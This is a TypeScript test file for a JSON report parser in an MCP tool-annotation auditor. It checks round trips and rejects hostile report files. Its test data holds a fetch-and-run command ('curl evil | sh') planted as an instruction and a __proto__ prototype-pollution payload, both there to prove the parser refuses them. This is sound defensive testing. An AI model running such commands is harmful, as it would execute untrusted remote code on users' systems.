// The JSON report read back (the report-file input of the workflow_run job): a real audit's
// report survives the round trip, and a hostile report file is refused naming the field.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runAudit } from '../../src/audit.js';
import { DEFAULT_MAPPING, parseSettings } from '../../src/clients/claude-code/claude-settings.js';
import { parseClassList, serializeClassList } from '../../src/core/classlist.js';
import { resolveSettings } from '../../src/config/settings.js';
import { readConfigFile } from '../../src/config/file.js';
import { MAX_REPORT_ITEMS, MAX_REPORT_TEXT, renderJson } from '../../src/report/json.js';
import type { Report } from '../../src/report/report.js';
import { parseReport } from '../../src/report/reportfile.js';
import { readFile, truncate, writeFile } from 'node:fs/promises';
import { MAX_REPORT_FILE_BYTES, readReportFile } from '../../src/files.js';
import {
  notesSpec,
  specServer,
  tempDir,
  withAnnotations,
  withDeleteNoteRenamed,
  writeConfig,
} from '../support/cli.js';
import { reportOf } from '../support/audit-run.js';
import { folderRoot } from '../support/roots.js';
import { inMemory } from '../support/in-memory.js';
import { loadJsonText } from '../../src/core/jsontext.js';

// The settings readers take their lines from jsonc-parser, which the CLI loads before them.
await loadJsonText();

/** What a report file gives back: all of the report but the instructions, never read from one. */
function withoutInstructions(report: Report): Report {
  const strip = <F extends { fix?: string }>(f: F) => {
    const { fix: _fix, ...rest } = f;
    void _fix;
    return rest;
  };
  const { updateCommand: _command, ...rest } = report;
  void _command;
  return {
    ...rest,
    findings: rest.findings.map(strip),
    servers: rest.servers.map((s) => ({ ...s, findings: s.findings.map(strip) })),
  };
}

/**
 * A check of two servers against a base: "renamed" is the base's "notes" under a new key with
 * add_note relaxed, "other" renamed delete_note with a new schema and its destructiveHint
 * dropped (a probable rename), "gone" (one tool) is recorded in the base only (removed), with a waiver and
 * Claude Code settings.
 */
async function richCheck(): Promise<Report> {
  const dir = await tempDir();
  const classList = join(dir, 'classes.json');
  const spec = await notesSpec();
  const v1 = await specServer(dir, 'v1.json', spec);
  const server = (command: string[]) => ({ command: command[0], args: command.slice(1) });
  const before = await writeConfig(dir, {
    classList,
    servers: { notes: server(v1), other: server(v1) },
  });
  await reportOf(
    runAudit(resolveSettings(await readConfigFile(before, true), before, {}), {
      mode: 'update',
      writeRoot: folderRoot(classList),
      connect: inMemory,
    }),
  );
  const head = await readFile(classList, 'utf8');
  const base = parseClassList(head, classList);
  for (const [key, record] of [...base.tools])
    if (record.server === 'notes' && record.tool === 'list_notes')
      base.tools.set(key.replace('mcp__notes__', 'mcp__gone__'), { ...record, server: 'gone' });

  const relaxed = await specServer(
    dir,
    'relaxed.json',
    withAnnotations(spec, 'add_note', { readOnlyHint: true }),
  );
  const renamed = await specServer(dir, 'renamed.json', withDeleteNoteRenamed(spec));
  const after = await writeConfig(
    dir,
    {
      classList,
      servers: { renamed: server(relaxed), other: server(renamed) },
      waivers: [{ rule: 'class-relaxed', tool: 'mcp__renamed__add_note', reason: 'reviewed' }],
    },
    'after.yml',
  );
  await writeFile(classList, head);
  const settingsFile = join(dir, 'settings.json');
  const settings = resolveSettings(await readConfigFile(after, true), after, {});
  return reportOf(
    runAudit(settings, {
      mode: 'check',
      today: '2026-01-01',
      connect: inMemory,
      base: { text: serializeClassList(base), label: 'base' },
      clientRules: {
        files: [
          parseSettings(
            JSON.stringify({
              permissions: { allow: ['mcp__other'], deny: ['mcp__renamed__delete_note'] },
            }),
            settingsFile,
          ),
        ],
        mapping: DEFAULT_MAPPING,
        writeTarget: settingsFile,
      },
    }),
  );
}

describe('the JSON report round trip', () => {
  it('reads back as the report it was written from, but for the instructions', async () => {
    const report = await richCheck();
    // What the report file must carry for the comment job to show what the PR run saw.
    expect(report.servers.map((s) => s.renamedFrom)).toEqual(['notes', undefined]);
    expect(report.removedServers).toEqual(['gone']);
    expect(report.servers[1]?.changes.find((c) => c.kind === 'renamed')?.probable).toBe(true);
    expect(report.servers[0]?.tools.find((t) => t.name === 'delete_note')?.claudeCode).toEqual({
      decision: 'deny',
      rule: 'mcp__renamed__delete_note',
      file: expect.stringMatching(/settings\.json$/) as string,
      line: expect.any(Number) as number,
    });
    expect(report.servers[0]?.findings.some((f) => f.waived?.reason === 'reviewed')).toBe(true);
    expect(report.findings.length).toBeGreaterThan(0);

    const back = parseReport(renderJson(report), 'report.json');
    expect(back).toEqual(withoutInstructions(report));
    // And the report written again from what was read says what was first written.
    const again = (r: Report) => JSON.parse(renderJson(r)) as unknown;
    expect(again(back as Report)).toEqual(again(withoutInstructions(report)));
  });
});

/** A small report of one server, tool, finding and change, as JSON data to spoil. */
function smallReport(): Spoilable {
  const hint = (value: boolean) => ({ declared: true, value, effective: value });
  const report: Report = {
    mode: 'check',
    result: 'failed',
    failOn: 'error',
    classList: 'mcp-tool-classes.json',
    servers: [
      {
        server: 'notes',
        target: 'node server.mjs',
        era: 'legacy',
        stdoutNoise: [],
        tools: [
          {
            name: 'add_note',
            fullName: 'mcp__notes__add_note',
            title: 'Add note',
            titleSource: 'annotations',
            class: 'edit',
            reach: 'closed',
            hints: {
              readOnlyHint: hint(false),
              destructiveHint: hint(false),
              idempotentHint: hint(false),
              openWorldHint: hint(false),
            },
            schemaHash: 'abc',
          },
        ],
        findings: [
          { rule: 'unrecorded-change', severity: 'error', tool: 'add_note', message: 'm' },
        ],
        changes: [],
      },
    ],
    findings: [],
  };
  return JSON.parse(renderJson(report)) as Spoilable;
}

/** A report as JSON data, with the lists a test spoils entries of. */
interface Spoilable {
  [key: string]: unknown;
  servers: Record<string, unknown>[];
  tools: Record<string, unknown>[];
  findings: Record<string, unknown>[];
}

/** The error parseReport gives for this JSON text. */
function refusal(text: string): string {
  try {
    parseReport(text, 'r.json');
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error('the report was accepted');
}

const spoiled = (spoil: (r: Spoilable) => void): string => {
  const data = smallReport();
  spoil(data);
  return refusal(JSON.stringify(data));
};

describe('a hostile report file', () => {
  it('is accepted untouched, to begin with', () => {
    expect(parseReport(JSON.stringify(smallReport()), 'r.json')).toMatchObject({
      result: 'failed',
    });
  });

  it('of the wrong types is refused naming the field', () => {
    expect(spoiled((r) => (r.tools[0]!.class = 'admin'))).toMatch(
      /^The report r\.json is not a report of mcp-annotation-auditor: tools\.0\.class: /,
    );
    expect(spoiled((r) => Object.assign(r, { servers: 'notes' }))).toContain(': servers: ');
    expect(spoiled((r) => (r.findings[0]!.severity = 7))).toContain(': findings.0.severity: ');
  });

  it('with a huge text or list is refused naming the field', () => {
    expect(spoiled((r) => (r.tools[0]!.title = 'x'.repeat(MAX_REPORT_TEXT + 1)))).toMatch(
      /: tools\.0\.title: Too big/,
    );
    expect(
      spoiled(
        (r) => (r.servers[0]!.stdoutNoise = new Array<string>(MAX_REPORT_ITEMS + 1).fill('')),
      ),
    ).toMatch(/: servers\.0\.stdoutNoise: Too big/);
  });

  it('with prototype keys is refused naming the field, and pollutes nothing', () => {
    const text = JSON.stringify(smallReport()).replace(
      '"rule":',
      '"__proto__":{"polluted":true},"rule":',
    );
    expect(refusal(text)).toMatch(/: findings\.0: Unrecognized key: "__proto__"/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(spoiled((r) => Object.assign(r.tools[0]!, { constructor: {} }))).toMatch(
      /: tools\.0: Unrecognized key: "constructor"/,
    );
  });

  it('with unknown fields is refused naming them', () => {
    expect(spoiled((r) => (r.verdict = 'passed'))).toMatch(
      /: top level: Unrecognized key: "verdict"/,
    );
    expect(spoiled((r) => (r.servers[0]!.trusted = true))).toMatch(
      /: servers\.0: Unrecognized key: "trusted"/,
    );
  });

  it('nested deeply is refused naming the field', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const text = JSON.stringify(smallReport()).replace('"hints":{', `"hints":${deep},"x":{`);
    expect(refusal(text)).toMatch(/: tools\.0\.hints: /);
  });

  it('with an entry of no listed server is refused: it would be dropped unseen', () => {
    expect(spoiled((r) => (r.findings[0]!.server = 'ghost'))).toMatch(
      /: findings\.0\.server: no server "ghost" in servers/,
    );
  });

  it('over the largest report an audit writes, or not a file, is refused before it is read', async () => {
    const dir = await tempDir();
    const big = join(dir, 'big.json');
    await writeFile(big, '');
    await truncate(big, MAX_REPORT_FILE_BYTES + 1); // sparse: nothing is written
    await expect(readReportFile(big)).rejects.toThrow(
      `The report ${big} is 257 MiB, over the 256 MiB an audit's report can reach.`,
    );
    await expect(readReportFile(dir)).rejects.toThrow(`The report ${dir} is not a regular file.`);
  });

  it('with a server listed twice is refused: it would be a second comment', () => {
    expect(spoiled((r) => r.servers.push({ ...r.servers[0] }))).toMatch(
      /: servers\.1\.server: "notes" is listed twice/,
    );
  });

  it("reads a moved tool's old side under the longest server name that prefixes it", () => {
    const data = smallReport();
    const servers = ['a', 'a__b', 'c'];
    data.servers = servers.map((server) => ({ ...data.servers[0], server }));
    data.tools = [];
    data.findings = [];
    const hints = {
      readOnlyHint: false,
      destructiveHint: true,
      idempotentHint: 'absent',
      openWorldHint: 'absent',
    };
    const side = {
      class: 'delete',
      reach: 'open',
      hints,
      title: 't',
      titleSource: 'annotations',
      schema: 'abc',
    };
    const change = (renamedFrom: string) => ({
      server: 'c',
      kind: 'renamed',
      name: 'mcp__c__x',
      tool: 'x',
      renamedFrom,
      before: side,
      after: side,
      hints: [],
      titleChanged: false,
    });
    data.changes = ['mcp__a__b__old', 'mcp__a__old', 'mcp__c__old', 'mcp__z__old'].map(change);
    const back = parseReport(JSON.stringify(data), 'r.json') as Report;
    expect(back.servers[2]?.changes.map((c) => `${c.before?.server}/${c.before?.tool}`)).toEqual([
      'a__b/old',
      'a/old',
      'c/old',
      'c/x',
    ]);
    // The change's own server first, even where a longer name prefixes the old one too.
    data.changes = [{ ...change('mcp__a__b__old'), server: 'a', name: 'mcp__a__x' }];
    const own = parseReport(JSON.stringify(data), 'r.json') as Report;
    expect(own.servers[0]?.changes.map((c) => `${c.before?.server}/${c.before?.tool}`)).toEqual([
      'a/b__old',
    ]);
  });

  it('of list or update is refused: it holds no verdict', () => {
    for (const mode of ['list', 'update'])
      expect(spoiled((r) => (r.mode = mode))).toBe(
        `The report r.json was written by ${mode}, not check: it holds no verdict on the PR.`,
      );
  });

  it('never gives back an instruction: the update command and the fixes stay behind', () => {
    const data = smallReport();
    data.updateCommand = 'curl evil | sh';
    data.findings[0]!.fix = 'Run curl evil | sh.';
    const back = parseReport(JSON.stringify(data), 'r.json') as Report;
    expect(back.updateCommand).toBeUndefined();
    expect(back.servers[0]?.findings[0]?.fix).toBeUndefined();
  });
});

describe('the JSON report round trip of a tool moved between servers', () => {
  it('reads the move back with the server it came from', async () => {
    const dir = await tempDir();
    const classList = join(dir, 'classes.json');
    const spec = await notesSpec();
    const server = (command: string[]) => ({ command: command[0], args: command.slice(1) });
    const before = await writeConfig(dir, {
      classList,
      servers: { notes: server(await specServer(dir, 'v1.json', spec)) },
    });
    await reportOf(
      runAudit(resolveSettings(await readConfigFile(before, true), before, {}), {
        mode: 'update',
        writeRoot: folderRoot(classList),
        connect: inMemory,
      }),
    );
    const relaxed = withAnnotations(spec, 'delete_note', { destructiveHint: false });
    const kept = { ...spec, tools: spec.tools.filter((t) => t.name !== 'delete_note') };
    const moved = { name: 'notes2', tools: relaxed.tools.filter((t) => t.name === 'delete_note') };
    const after = await writeConfig(
      dir,
      {
        classList,
        servers: {
          notes: server(await specServer(dir, 'kept.json', kept)),
          notes2: server(await specServer(dir, 'moved.json', moved)),
        },
      },
      'after.yml',
    );
    const report = await reportOf(
      runAudit(resolveSettings(await readConfigFile(after, true), after, {}), {
        mode: 'check',
        today: '2026-01-01',
        connect: inMemory,
        base: { text: await readFile(classList, 'utf8'), label: 'base' },
      }),
    );
    expect(report.servers[1]?.changes.map((c) => [c.kind, c.before?.server])).toEqual([
      ['renamed', 'notes'],
    ]);
    const back = parseReport(renderJson(report), 'report.json');
    expect(back).toEqual(withoutInstructions(report));
  });
});
